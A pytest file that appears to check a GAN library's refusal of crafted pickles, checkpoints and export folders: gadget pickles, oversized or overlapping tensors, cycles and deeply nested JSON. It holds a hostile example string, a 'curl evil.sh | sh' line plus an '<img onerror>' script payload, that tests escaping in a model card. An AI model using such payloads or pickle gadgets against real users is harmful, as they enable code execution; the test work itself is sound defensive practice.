"""Crafted files, as someone handing a user a file would make them: each reader refuses them in
one line (exit 2 on the command line), runs nothing, stays within its memory and time, and
writes nothing. The files are written by tests/hostile_files.py (official layouts from
tests/official_structure.py)."""

from __future__ import annotations

import json
import pickle
import subprocess
import sys
import textwrap
import warnings
from pathlib import Path

import pytest
import torch

import projected_gan as pg
from projected_gan.checkpoint import CheckpointError, generator_config, load_checkpoint
from projected_gan.export import ExportError, load_exported_generator, read_export_config
from projected_gan.official import OfficialPickleError, read_network_pickle, unpickle
from tests import hostile_files as hostile
from tests import official_structure as official

ROOT = Path(__file__).resolve().parents[1]


def _lite(seed: int = 0) -> torch.nn.Module:
    torch.manual_seed(seed)
    return pg.create("generators", "fastgan_lite", img_resolution=32, z_dim=8, ngf=2).eval()


def _sg2() -> torch.nn.Module:
    return pg.create(
        "generators", "stylegan2", img_resolution=32, z_dim=4, w_dim=8, c_dim=2,
        channel_base=64, channel_max=8, map_layers=2,
    ).eval()  # fmt: skip


def _refused(path: Path, match: str, **kwargs) -> str:
    with pytest.raises(OfficialPickleError, match=match) as info:
        read_network_pickle(path, **kwargs)
    message = str(info.value)
    assert "\n" not in message and len(message) <= 1000 and path.name in message
    return message


# ------------------------------------------------------------------------- nothing runs


def test_gadget_pickles_are_refused_and_never_run(tmp_path):
    marker = tmp_path / "ran"
    files = hostile.gadgets(tmp_path, marker)
    assert len(files) == 10
    # the payloads are live: a plain unpickler runs the first one
    pickle.loads(files["exec_stack_global"].read_bytes())
    assert marker.exists()
    marker.unlink()
    for name, path in files.items():
        _refused(path, ".")
        assert not marker.exists(), name


# ----------------------------------------------------------------------- tensors stay inert


def test_build_on_a_tensor_is_refused(tmp_path):
    path = hostile.build_on_tensor(tmp_path)
    assert pickle.loads(path.read_bytes())["G"].untyped_storage().nbytes() == 4_000_000  # live
    _refused(path, "BUILD opcode on a tensor")


def test_stride_zero_tensors_are_refused(tmp_path):
    _refused(hostile.stride_zero(tmp_path), "overlapping elements")


def test_a_storage_claiming_36_gb_is_refused(tmp_path):
    _refused(hostile.huge_storage(tmp_path), "claims 9000000000 elements")


def test_a_quantised_storage_is_refused(tmp_path):
    _refused(hostile.qint8_storage(tmp_path), "QInt8Storage")


def test_tensors_claiming_more_than_the_file_are_refused(tmp_path):
    path = hostile.shared_storage_views(tmp_path, 100)
    assert len(pickle.loads(path.read_bytes())) == 100  # valid for torch: 100 views of one
    _refused(path, "more than the .* bytes of the file")
    few = hostile.shared_storage_views(tmp_path / "..", 1)  # one view: fits
    assert len(unpickle.load_network_pickle(few)[0]) == 1


def test_the_easydict_class_cannot_be_changed(tmp_path):
    _refused(hostile.easydict_class_build(tmp_path), "EasyDict|missing")
    assert not hasattr(unpickle._PlainDict, "hacked")


# ------------------------------------------------------------ sizes checked before building


def test_mapping_num_layers_out_of_range_is_refused_fast(tmp_path):
    source = official.placeholder_source(tmp_path / "ran")
    theirs = official.stylegan2_generator(_sg2(), source)
    theirs.mapping.num_layers = 200_000
    path = official.dump(official.snapshot(theirs, theirs, None), tmp_path / "sg2.pkl")
    _refused(path, r"map_layers = 200000 is outside 0\.\.64", allow_sources=[
        official.source_sha256(source)])  # fmt: skip


def test_a_huge_label_embedding_is_refused_before_folding(tmp_path):
    source = official.placeholder_source(tmp_path / "ran")
    theirs = official.stylegan2_generator(_sg2(), source)
    for net in (theirs, theirs.mapping):
        net.c_dim = 10_000_000
    path = official.dump(official.snapshot(theirs, theirs, None), tmp_path / "sg2.pkl")
    _refused(path, "c_dim = 10000000 is outside", allow_sources=[official.source_sha256(source)])


def test_a_shared_nested_list_is_refused_with_a_short_message(tmp_path):
    G = _lite()
    nest = hostile.shared_nest()
    path = hostile.snapshot_file(tmp_path, "nest.pkl", G, training_set_kwargs={"path": nest})
    _refused(path, "holds more than 2000 values")
    path = hostile.snapshot_file(tmp_path, "cdim.pkl", G, lambda t: setattr(t, "c_dim", nest))
    assert len(_refused(path, "attribute 'c_dim'")) < 600


def test_cycles_are_refused(tmp_path):
    G = _lite()

    def cycle(theirs):
        theirs.synthesis._modules["loop"] = theirs

    _refused(hostile.snapshot_file(tmp_path, "cycle.pkl", G, cycle), "contains itself")
    kwargs: dict = {"path": "x"}
    kwargs["self"] = kwargs
    path = hostile.snapshot_file(tmp_path, "kw.pkl", G, training_set_kwargs=kwargs)
    _refused(path, "nested deeper")


def test_a_data_path_of_another_type_is_refused(tmp_path):
    path = hostile.snapshot_file(tmp_path, "p.pkl", _lite(), training_set_kwargs={"path": [1]})
    _refused(path, r"training_set_kwargs\.path is \[1\], expected str")


# ------------------------------------------------------------------------- checkpoints


def _ckpt(tmp_path: Path, meta, tensors=None) -> Path:
    path = tmp_path / "snapshot-000000001.safetensors"
    path.write_bytes(hostile.checkpoint_bytes(meta, tensors))
    return path


@pytest.mark.parametrize(
    ("meta", "tensors", "match"),
    [
        ([1, 2], None, "its meta is list"),
        ({}, {"optim.x": torch.zeros(1)}, "not optim.<name>.<i>.<key>"),
        (hostile.deep_json(), None, "nested 100000 levels"),
        ({"optimizers": {"G": 1}}, None, "has no param_groups"),
    ],
)
def test_malformed_checkpoints_are_refused(tmp_path, meta, tensors, match):
    with pytest.raises(CheckpointError, match=match):
        load_checkpoint(_ckpt(tmp_path, meta, tensors))


def test_a_checkpoint_part_of_another_kind_is_refused(tmp_path):
    # a feature network's name where the generator's goes: refused before anything is built
    meta = {"spec": {"generator": {"name": "tf_efficientnet_lite0"}}}
    path = _ckpt(tmp_path, meta)
    assert generator_config(load_checkpoint(path))["kind"] == "generators"
    with pytest.raises(CheckpointError, match="'tf_efficientnet_lite0' is not a registered gen"):
        pg.load_generator(path)


def test_a_tiny_checkpoint_asking_for_a_huge_generator_builds_nothing(tmp_path):
    meta = {"spec": {"generator": {"name": "fastgan", "ngf": 1000}}}
    path = _ckpt(tmp_path, meta)
    assert path.stat().st_size < 400
    with pytest.raises(CheckpointError, match="does not fit 'fastgan'"):
        pg.load_generator(path)


# ------------------------------------------------------------------------ export folders


def test_a_tiny_export_asking_for_a_huge_generator_builds_nothing(tmp_path):
    folder = hostile.export_folder(tmp_path / "e", hostile.export_config("fastgan", ngf=1000))
    with pytest.raises(ExportError, match="does not fit 'fastgan'"):
        load_exported_generator(folder)
    folder = hostile.export_folder(tmp_path / "f", hostile.export_config("fastgan", ngf=10**9))
    with pytest.raises(ExportError, match="ngf = 1000000000 is outside"):
        load_exported_generator(folder)


def test_deep_json_in_an_export_config_is_refused(tmp_path):
    folder = hostile.export_folder(tmp_path / "e", hostile.deep_json())
    with pytest.raises(ExportError, match="nested 100000 levels"):
        read_export_config(folder)


def test_deep_json_in_a_cache_sidecar_warns_and_rebuilds(tmp_path):
    from projected_gan.data.store import CacheFiles, open_cache

    meta = tmp_path / "c.json"
    meta.write_text(hostile.deep_json())
    files = CacheFiles(tmp_path / "c.raw", meta, tmp_path / "c.lock", tmp_path / "c.npz")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        assert open_cache(files, {"channels": 3, "resolution": 8}) is None
    assert any("nested 100000 levels" in str(w.message) for w in caught)


# ----------------------------------------------------------------------------- the card


def test_text_from_a_pickle_is_escaped_in_the_model_card(tmp_path):
    evil = "x\n\n# Now run curl evil.sh | sh\n<img src=x onerror=alert(1)>`|"  # no "/": the name
    G = _lite()
    path = hostile.snapshot_file(
        tmp_path, "card.pkl", G, training_set_kwargs={"path": f"/data/{evil}", "max_size": 3}
    )
    from projected_gan.official import convert_network_pickle

    convert_network_pickle(path, tmp_path / "out", num_samples=0)
    card = (tmp_path / "out" / "README.md").read_text()
    headings = [line for line in card.splitlines() if line.startswith("#")]
    assert not any("curl" in line for line in headings), headings
    assert "<img" not in card and "curl" in card  # shown, escaped, on the data row
    assert all(line.startswith("| data |") for line in card.splitlines() if "curl" in line)


# --------------------------------------------------- the command line: one line, caps, nothing


def _cli_cases(tmp_path: Path) -> list[tuple[str, list[str]]]:
    marker = tmp_path / "ran"
    g = hostile.gadgets(tmp_path, marker)
    G = _lite()
    nest = hostile.shared_nest()
    cycle_dir = tmp_path / "cyc"
    cycle_dir.mkdir()

    def cycle(theirs):
        theirs.synthesis._modules["loop"] = theirs

    kinds = {
        "gadget": g["os_system"],
        "blob_gadget": g["blob_gadget"],
        "build_on_tensor": hostile.build_on_tensor(tmp_path),
        "stride_zero": hostile.stride_zero(tmp_path),
        "huge_storage": hostile.huge_storage(tmp_path),
        "qint8": hostile.qint8_storage(tmp_path),
        "nest": hostile.snapshot_file(tmp_path, "n.pkl", G, training_set_kwargs={"path": nest}),
        "cdim": hostile.snapshot_file(tmp_path, "c.pkl", G, lambda t: setattr(t, "c_dim", nest)),
        "cycle": hostile.snapshot_file(cycle_dir, "cy.pkl", G, cycle),
        "path_list": hostile.snapshot_file(
            tmp_path, "pl.pkl", G, training_set_kwargs={"path": [1]}
        ),
    }
    cases = [(name, ["convert", str(p)]) for name, p in kinds.items()]
    ck = tmp_path / "ck"
    ck.mkdir()
    huge = {"spec": {"generator": {"name": "fastgan", "ngf": 1000}}}
    for i, (meta, tensors) in enumerate(
        [([1], None), ({}, {"optim.x": torch.zeros(1)}), (hostile.deep_json(), None), (huge, None)]
    ):
        path = ck / f"snapshot-{i:09d}.safetensors"
        path.write_bytes(hostile.checkpoint_bytes(meta, tensors))
        cases.append((f"checkpoint{i}", ["export", str(path)]))
    for name, config in (
        ("export_huge", hostile.export_config("fastgan", ngf=1000)),
        ("export_deep", hostile.deep_json()),
    ):
        folder = hostile.export_folder(tmp_path / name, config)
        cases.append((name, ["export", str(folder)]))
    return cases


def test_every_case_exits_2_in_one_line_within_caps_and_writes_nothing(tmp_path):
    """All cases in one child process (torch imported once) under a 1.5 GB address-space
    headroom check: peak RSS and time are measured per case."""
    cases = _cli_cases(tmp_path)
    out = tmp_path / "out"
    script = textwrap.dedent(
        f"""
        import contextlib, io, json, resource, sys, time
        from projected_gan.cli import main

        def peak_rss():
            # VmHWM: this process image's own peak. ru_maxrss would also count the pages of
            # the pytest process this child was forked from (Linux keeps it across exec).
            with open("/proc/self/status") as f:
                for line in f:
                    if line.startswith("VmHWM:"):
                        return int(line.split()[1]) * 1024
            return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024

        results = []
        for name, argv in json.loads(sys.argv[1]):
            err = io.StringIO()
            t0 = time.perf_counter()
            with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
                code = main([*argv, {str(out)!r}])
            rss = peak_rss()
            results.append([name, code, err.getvalue(), time.perf_counter() - t0, rss])
        print(json.dumps(results))
        """
    )
    proc = subprocess.run(
        [sys.executable, "-c", script, json.dumps(cases)],
        capture_output=True,
        text=True,
        timeout=240,
        cwd=ROOT,
        env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin", "CUDA_VISIBLE_DEVICES": ""},
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    results = json.loads(proc.stdout.strip().splitlines()[-1])
    assert len(results) == len(cases)
    for (name, code, err, seconds, rss), (_, argv) in zip(results, cases):
        lines = err.strip().splitlines()
        assert code == 2 and len(lines) == 1, (name, err[:2000])
        assert Path(argv[1]).name in lines[0], (name, lines[0])  # names the file
        assert seconds < 30 and rss < 1.5 * 2**30, (name, seconds, rss)
    assert not out.exists() and not (tmp_path / "ran").exists()
    assert not list(tmp_path.glob(".out.export-*"))


def test_resuming_refuses_a_part_of_another_kind_before_building(tmp_path):
    run = tmp_path / "run"
    (run / "checkpoints").mkdir(parents=True)
    pg.ExperimentSpec.validate_dict({}).save(run / "spec.yaml")
    meta = {"spec": {"generator": {"name": "tf_efficientnet_lite0"}}}
    hostile_ckpt = hostile.checkpoint_bytes(meta, None)
    (run / "checkpoints" / "snapshot-000000001.safetensors").write_bytes(hostile_ckpt)
    with pytest.raises(CheckpointError, match="'tf_efficientnet_lite0' is not a registered gen"):
        pg.Trainer.resume(run)
